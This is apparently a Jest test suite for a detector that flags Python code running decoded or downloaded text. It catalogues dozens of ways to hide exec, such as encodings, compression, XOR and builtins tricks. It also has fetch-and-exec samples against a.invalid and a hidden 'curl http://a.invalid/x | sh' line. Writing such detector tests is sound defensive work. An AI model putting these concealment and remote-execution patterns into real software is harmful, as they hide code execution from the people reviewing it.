import { deflateSync } from 'node:zlib';
import { expect, test } from '@jest/globals';
import { actsIn, base64, everyAct, read } from './read.js';

const INERT = 'print("inert")';
const HEX = Buffer.from(INERT).toString('hex');
const ZLIB = deflateSync(Buffer.from(INERT)).toString('base64');
// bz2.compress of INERT; Node has no compressor for it.
const BZIP2 = 'QlpoOTFBWSZTWbI9XIIAAASRgBBgAiFUACAAMQZMQQ0GnqFKmjoYY/F3JFOFCQsj1cgg';
const ROT13 = INERT.replaceAll(/[a-z]/gu, (c) => String.fromCharCode(((c.charCodeAt(0) - 97 + 13) % 26) + 97));
const XOR = [...INERT].map((c) => c.charCodeAt(0) ^ 42).join(', ');
const CODES = [...INERT].map((c) => c.charCodeAt(0)).join(', ');
const SHIFTED = [...INERT]
  .map((c) => String.fromCharCode(c.charCodeAt(0) + 1))
  .join('')
  .replaceAll('"', '\\"');

const DECODED: readonly { name: string; source: string }[] = [
  { name: 'base64 in the argument', source: `import base64\nexec(base64.b64decode("${base64(INERT)}"))` },
  { name: 'base64 through a name', source: `import base64\ncode = base64.b64decode("${base64(INERT)}")\nexec(code)` },
  {
    name: 'an alias of the module',
    source: `import base64 as b\nexec(b.b64decode("${base64(INERT)}").decode("utf-8"))`,
  },
  { name: 'a renamed function', source: `from base64 import b64decode as d\nexec(d("${base64(INERT)}"))` },
  { name: 'a star import', source: `from base64 import *\nimport base64\nexec(base64.b64decode("${base64(INERT)}"))` },
  {
    name: 'a helper of its own',
    source: `import base64\ndef d(s):\n    return base64.b64decode(s).decode()\nexec(d("${base64(INERT)}"))`,
  },
  { name: 'a lambda', source: `import base64\nd = lambda s: base64.b64decode(s)\nexec(d("${base64(INERT)}"))` },
  {
    name: 'an immediately called lambda',
    source: `exec((lambda s: __import__("base64").b64decode(s))("${base64(INERT)}"))`,
  },
  {
    name: 'an attribute',
    source: `import base64\nclass A:\n    def __init__(self):\n        self.code = base64.b64decode("${base64(INERT)}")\n    def go(self):\n        exec(self.code)\nA().go()`,
  },
  {
    name: 'a class attribute',
    source: `import base64\nclass A:\n    code = base64.b64decode("${base64(INERT)}")\nexec(A.code)`,
  },
  { name: 'a list', source: `import base64\nparts = ["${base64(INERT)}"]\nexec(base64.b64decode(parts[0]))` },
  { name: 'a dictionary', source: `import base64\nt = {"k": "${base64(INERT)}"}\nexec(base64.b64decode(t["k"]))` },
  {
    name: 'pieces joined',
    source: `import base64\nexec(base64.b64decode("".join(["${base64(INERT).slice(0, 5)}", "${base64(INERT).slice(5)}"])))`,
  },
  {
    name: 'pieces added up',
    source: `import base64\np = "${base64(INERT).slice(0, 5)}"\np += "${base64(INERT).slice(5)}"\nexec(base64.b64decode(p))`,
  },
  {
    name: 'a default argument',
    source: `import base64\ndef f(c=base64.b64decode("${base64(INERT)}")):\n    exec(c)\nf()`,
  },
  { name: 'compile', source: `import base64\nexec(compile(base64.b64decode("${base64(INERT)}"), "x", "exec"))` },
  {
    name: 'eval of compile',
    source: `import base64\neval(compile(base64.b64decode("${base64(INERT)}"), "<string>", "exec"))`,
  },
  {
    name: 'bzip2',
    source: `import base64, bz2\nexec(bz2.decompress(base64.b64decode("${BZIP2}")))`,
  },
  { name: 'zlib', source: `import base64, zlib\nexec(zlib.decompress(base64.b64decode("${ZLIB}")))` },
  {
    name: 'zlib by __import__',
    source: `exec(__import__("zlib").decompress(__import__("base64").b64decode("${ZLIB}")))`,
  },
  { name: 'hex', source: `exec(bytes.fromhex("${HEX}"))` },
  { name: 'hex by binascii', source: `import binascii\nexec(binascii.unhexlify("${HEX}").decode())` },
  { name: 'hex by codecs', source: `import codecs\nexec(codecs.decode("${HEX}", "hex"))` },
  { name: 'hex, Python 2', source: `exec "${HEX}".decode("hex")` },
  { name: 'rot13', source: `import codecs\nexec(codecs.decode('${ROT13}', 'rot13'))` },
  { name: 'character codes', source: `exec("".join(chr(c) for c in [${CODES}]))` },
  { name: 'character codes by map', source: `exec("".join(map(chr, [${CODES}])))` },
  { name: 'character codes by bytes', source: `exec(bytes([${CODES}]).decode())` },
  { name: 'character codes added up', source: `exec(${[...INERT].map((c) => `chr(${c.charCodeAt(0)})`).join('+')})` },
  { name: 'characters shifted', source: `exec("".join(chr(ord(c) - 1) for c in "${SHIFTED}"))` },
  {
    name: 'characters shifted in a loop',
    source: `out = ""\nfor c in "${SHIFTED}":\n    out += chr(ord(c) - 1)\nexec(out)`,
  },
  { name: 'XOR in a comprehension', source: `exec("".join(chr(c ^ 42) for c in [${XOR}]))` },
  { name: 'XOR of bytes', source: `exec(bytes(b ^ 42 for b in [${XOR}]))` },
  {
    name: 'XOR in a loop',
    source: `data = [${XOR}]\nout = []\nfor b in data:\n    out.append(b ^ 42)\nexec(bytes(out))`,
  },
  { name: 'reversed text', source: `exec('${[...INERT].reverse().join('')}'[::-1])` },
  { name: 'reversed by function', source: `exec("".join(reversed('${[...INERT].reverse().join('')}')))` },
  { name: 'a common separator as filler', source: `exec('${[...INERT].join('-')}'.replace('-', ''))` },
  { name: 'filler taken out', source: `exec('${[...INERT].join('#')}'.replace('#', ''))` },
  { name: 'a big number', source: `n = ${BigInt(`0x${HEX}`)}\nexec(n.to_bytes(${INERT.length}, 'big'))` },
  { name: 'escapes only', source: `exec("${[...INERT].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}")` },
  { name: 'marshal', source: 'import marshal\nexec(marshal.loads(b"..."))' },
  { name: 'a cipher', source: 'from cryptography.fernet import Fernet\nexec(Fernet(b"key").decrypt(b"data"))' },
  {
    name: 'a cipher of any library',
    source: 'from anything import Cipher\nexec(Cipher.new(b"key").decrypt(b"data").decode())',
  },
  { name: 'lzma', source: 'import lzma\nexec(lzma.decompress(b"..."))' },
  {
    name: 'getattr on builtins',
    source: `import base64, builtins\ngetattr(builtins, "ex" + "ec")(base64.b64decode("${base64(INERT)}"))`,
  },
  {
    name: '__import__ of builtins',
    source: `import base64\n__import__("builtins").exec(base64.b64decode("${base64(INERT)}"))`,
  },
  { name: 'globals()', source: `import base64\nglobals()["__builtins__"].exec(base64.b64decode("${base64(INERT)}"))` },
  {
    name: '__builtins__ as a dictionary',
    source: `import base64\n__builtins__.__dict__["exec"](base64.b64decode("${base64(INERT)}"))`,
  },
  { name: 'an alias of exec', source: `import base64\ne = exec\ne(base64.b64decode("${base64(INERT)}"))` },
  {
    name: 'exec from a table',
    source: `import base64\nrun = [print, exec][1]\nrun(base64.b64decode("${base64(INERT)}"))`,
  },
  { name: 'exec handed to map', source: `import base64\nlist(map(exec, [base64.b64decode("${base64(INERT)}")]))` },
  {
    name: 'exec by partial',
    source: `import base64, functools\nfunctools.partial(exec, base64.b64decode("${base64(INERT)}"))()`,
  },
  {
    name: 'a parameter that is run',
    source: `import base64\ndef run(c):\n    exec(c)\nrun(base64.b64decode("${base64(INERT)}"))`,
  },
  {
    name: 'two functions deep',
    source: `import base64\ndef a(c):\n    b(c)\ndef b(c):\n    exec(c)\na(base64.b64decode("${base64(INERT)}"))`,
  },
  {
    name: 'a thread',
    source: `import base64, threading\ndef run(c):\n    exec(c)\nthreading.Thread(target=run, args=(base64.b64decode("${base64(INERT)}"),)).start()`,
  },
  { name: 'a walrus', source: `import base64\nif (c := base64.b64decode("${base64(INERT)}")):\n    exec(c)` },
  { name: 'unpacking', source: `import base64\na, b = 1, base64.b64decode("${base64(INERT)}")\nexec(b)` },
  {
    name: 'a conditional',
    source: `import base64, sys\nc = base64.b64decode("${base64(INERT)}") if sys.argv else ""\nexec(c)`,
  },
  {
    name: 'try and except',
    source: `try:\n    from base64 import b64decode\nexcept ImportError:\n    b64decode = None\ntry:\n    exec(b64decode("${base64(INERT)}"))\nexcept Exception:\n    pass`,
  },
  { name: 'full-width letters', source: `import base64\nｅｘｅｃ(base64.b64decode("${base64(INERT)}"))` },
  { name: 'carriage returns as line ends', source: `import base64 # x\rexec(base64.b64decode("${base64(INERT)}"))\r` },
  { name: 'Python 2', source: `import base64\nprint "x"\nexec base64.b64decode("${base64(INERT)}")` },
  { name: 'FunctionType', source: 'import types, marshal\ntypes.FunctionType(marshal.loads(b".."), {})()' },
  {
    name: 'text pushed off the screen',
    source: `x = 1;${' '.repeat(300)}exec(__import__("base64").b64decode("${base64(INERT)}"))`,
  },
];

test('bzip2 is unfolded, and what it hides is read', () => {
  const hidden = 'QlpoOTFBWSZTWVInDgQAAAVRgAAQUGEGItwgIAAxTAATQoDRp+qeiKOMb0NhzKB1WYlU+LuSKcKEgpE4cCA=';
  const file = read(`import base64, bz2\nexec(bz2.decompress(base64.b64decode("${hidden}")))`);

  expect(actsIn(file)).toEqual(['run-code<decoded>', 'run-process']);
});

test.each(DECODED)('decoded: $name', ({ source }) => {
  const found = actsIn(read(source));

  expect(found.filter((act) => act.startsWith('run-code<') && act.includes('decoded'))).not.toEqual([]);
});

const FROM_NETWORK: readonly { name: string; source: string }[] = [
  { name: 'requests', source: 'import requests\nexec(requests.get("https://a.invalid/x").text)' },
  {
    name: 'urlopen',
    source: 'from urllib.request import urlopen\nexec(urlopen("https://a.invalid/x").read().decode())',
  },
  { name: 'urllib2', source: 'import urllib2\nexec urllib2.urlopen("http://a.invalid/x").read()' },
  {
    name: 'a session',
    source: 'import requests\ns = requests.Session()\nr = s.get("https://a.invalid/x")\nexec(r.content)',
  },
  {
    name: 'a session as context',
    source: 'import httpx\nwith httpx.Client() as c:\n    exec(c.get("https://a.invalid/x").text)',
  },
  {
    name: 'urlopen as context',
    source:
      'import urllib.request\nwith urllib.request.urlopen("https://a.invalid/x") as f:\n    data = f.read()\nexec(data)',
  },
  {
    name: 'http.client',
    source:
      'import http.client\nc = http.client.HTTPSConnection("a.invalid")\nc.request("GET", "/x")\nexec(c.getresponse().read())',
  },
  { name: 'a socket', source: 'import socket\ns = socket.socket()\ns.connect(("a.invalid", 1))\nexec(s.recv(4096))' },
  {
    name: 'aiohttp',
    source:
      'import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        async with s.get("https://a.invalid/x") as r:\n            exec(await r.text())',
  },
  { name: 'a field of JSON', source: 'import requests\nexec(requests.get("https://a.invalid/x").json()["code"])' },
  {
    name: 'a function that returns it',
    source:
      'import requests\ndef load():\n    r = requests.get("https://a.invalid/x")\n    return r.text\nexec(load())',
  },
  {
    name: 'a method that returns it',
    source:
      'import requests\nclass A:\n    def load(self):\n        return requests.get("https://a.invalid/x").text\n    def go(self):\n        exec(self.load())\nA().go()',
  },
  {
    name: 'a session kept in self',
    source:
      'import requests\nclass A:\n    def __init__(self):\n        self.s = requests.Session()\n    def go(self):\n        exec(self.s.get("https://a.invalid/x").text)',
  },
  {
    name: 'a loop over addresses',
    source: 'import requests\nfor u in ["https://a.invalid/x"]:\n    exec(requests.get(u).text)',
  },
  { name: 'curl', source: 'import subprocess\nexec(subprocess.check_output(["curl", "-s", "https://a.invalid/x"]))' },
  { name: 'os.popen of curl', source: 'import os\nexec(os.popen("curl -s https://a.invalid/x").read())' },
];

test.each(FROM_NETWORK)('network: $name', ({ source }) => {
  const found = actsIn(read(source));

  expect(found.filter((act) => act.startsWith('run-code<') && act.includes('network'))).not.toEqual([]);
});

const ORDINARY: readonly { name: string; source: string; acts?: readonly string[] }[] = [
  {
    name: 'the version file',
    source: 'ns = {}\nexec(open("demo/version.py").read(), ns)',
    acts: ['run-code<own-data>'],
  },
  {
    name: 'the version file by __file__',
    source:
      'import os\nhere = os.path.dirname(__file__)\nwith open(os.path.join(here, "version.py")) as f:\n    exec(compile(f.read(), "v", "exec"))',
    acts: ['run-code<own-data>'],
  },
  { name: 'a template', source: 'def make(name):\n    exec("class %s: pass" % name)' },
  { name: 'collections.namedtuple', source: 'def f(n, d, ns):\n    exec(d.format(name=n), ns)' },
  {
    name: 'decoding and exec side by side',
    source: `import base64\nicon = base64.b64decode("${base64('icon')}")\nexec("x = 1")`,
  },
  {
    name: 'download and exec side by side',
    source: 'import requests\nr = requests.get("https://a.invalid/v.json").json()\nexec("x = 1")',
  },
  {
    name: 'a decoder that another function uses',
    source: 'import base64\ndef load(s):\n    return base64.b64decode(s)\ndef run(code):\n    exec(code)\nrun("x = 1")',
  },
  {
    name: 'a name reused for something else',
    source: 'import base64\nx = base64.b64decode("aGk=")\nx = "y = 1"\nexec(x)',
  },
  { name: 're.compile', source: 'import re, base64\nre.compile(base64.b64decode("aGk="))' },
  { name: 'literal_eval', source: 'import ast, requests\nast.literal_eval(requests.get("https://a.invalid/x").text)' },
  { name: 'a method named exec', source: 'import requests\ndb.exec(requests.get("https://a.invalid/x").text)' },
  { name: 'a method named eval', source: 'import base64\nmodel.eval(base64.b64decode("aGk="))' },
  {
    name: 'a function of its own named exec',
    source: 'import base64\ndef exec(x):\n    return x\nexec(base64.b64decode("aGk="))',
  },
  { name: 'decoding text from bytes', source: 'def f(b):\n    exec(b.decode("utf-8"))' },
  {
    name: 'code that only type checkers read',
    source: 'from typing import TYPE_CHECKING\nimport base64\nif TYPE_CHECKING:\n    exec(base64.b64decode("aGk="))',
  },
  { name: 'a comment', source: '# exec(base64.b64decode("aGk="))\nimport base64' },
  { name: 'a string', source: 'import base64\nx = "exec(base64.b64decode(y))"' },
  {
    name: 'separators taken out of words',
    source: 'key = "alpha_beta_gamma_delta".replace("_", "")\neval(key + "()")',
    acts: ['run-code'],
  },
];

test.each(ORDINARY)('ordinary: $name', ({ source, acts }) => {
  const found = actsIn(read(source));
  const code = found.filter((act) => act.startsWith('run-code'));

  expect(code.filter((act) => /decoded|network|downloaded/u.test(act))).toEqual([]);
  if (acts !== undefined) expect(code).toEqual(acts);
});

test('code in a constant is unfolded and its acts are told', () => {
  const hidden = 'import os\nos.system("curl http://a.invalid/x | sh")';
  const file = read(`import base64\nexec(base64.b64decode("${base64(hidden)}"))`);
  const process = everyAct(file).find((act) => act.act === 'run-process');

  expect(process).toMatchObject({ inputs: ['downloaded-file'], callee: 'os.system', at: { line: 2 } });
  expect(process?.at.excerpt).toBe('os.system("curl http://a.invalid/x | sh")');
  expect(process?.steps.map((step) => step.what)).toEqual([
    'decodes with base64.b64decode',
    'runs the text as code',
    'starts a process with os.system: curl http://a.invalid/x | sh',
  ]);
});

test('the steps of a flow lead from the source to the act', () => {
  const file = read(
    'import requests\ndef load():\n    return requests.get("https://a.invalid/x").text\ndef run(c):\n    exec(c)\nrun(load())\n',
  );
  const [act] = everyAct(file).filter((each) => each.act === 'run-code');

  expect(act?.steps.map((step) => `${step.at.line}: ${step.what}`)).toEqual([
    '3: reads a.invalid/x with requests.get',
    '5: runs code with builtins.exec',
  ]);
});
